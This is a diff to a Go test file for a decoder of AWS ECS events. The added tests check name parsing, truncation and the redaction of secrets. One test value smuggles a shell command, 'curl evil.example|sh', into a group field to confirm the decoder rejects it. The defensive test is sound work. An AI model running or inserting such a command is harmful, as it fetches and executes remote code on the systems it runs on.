@@ -79,6 +79,7 @@ func TestWhereItHappened(t *testing.T) {
 		"service deployment":                  {`"resources":["` + arn + `service-deployment/prod/web/0EYSiB0q"],"detail":{}`, "prod", "web"},
 		"group of a task":                     {`"resources":["` + arn + `task/prod/0123"],"detail":{"group":"service:web"}`, "prod", "web"},
 		"group of a family":                   {`"resources":["` + arn + `task/prod/0123"],"detail":{"group":"family:nightly"}`, "prod", ""},
+		"a group that is no name":             {`"detail":{"group":"service:x;curl evil.example|sh"}`, "", ""},
 		"a family that begins like a service": {`"detail":{"group":"service"}`, "", ""},
 		"service name of UpdateService":       {`"detail":{"service":"web"}`, "", "web"},
 		"service name of CreateService":       {`"detail":{"serviceName":"web"}`, "", "web"},
@@ -185,6 +186,9 @@ func TestAnUnreadableEventShowsItsStartAndNoEnvironment(t *testing.T) {
 	if got.Kind != incident.Unreadable || got.Raw != `{"detail":{"` {
 		t.Errorf("%+v", got)
 	}
+	if got := Decode([]byte(strings.Repeat("Ⱥ", 40) + ` environment":[{"value":"hunter2"}]`)); strings.Contains(got.Raw, "hunter2") {
+		t.Errorf("%q shows a value", got.Raw)
+	}
 	long := Decode([]byte(strings.Repeat("日", 5000)))
 	if n := utf8.RuneCountInString(long.Raw); n != 600 || !utf8.ValidString(long.Raw) {
 		t.Errorf("%d characters", n)
@@ -235,4 +239,11 @@ func FuzzDecode(f *testing.F) {
 			t.Errorf("a stopped task without a task: %+v", inc)
 		}
 	})
+}
+
+func TestSecretsInReasonsAreRedacted(t *testing.T) {
+	got := Decode([]byte(`{"source":"aws.ecs","detail":{"taskArn":"t","lastStatus":"STOPPED","stoppedReason":"exec app --password=hunter2","containers":[{"reason":"DB_PASSWORD=hunter2"}]}}`))
+	if kept, err := json.Marshal(got); err != nil || strings.Contains(string(kept), "hunter2") {
+		t.Errorf("%s, %v", kept, err)
+	}
 }
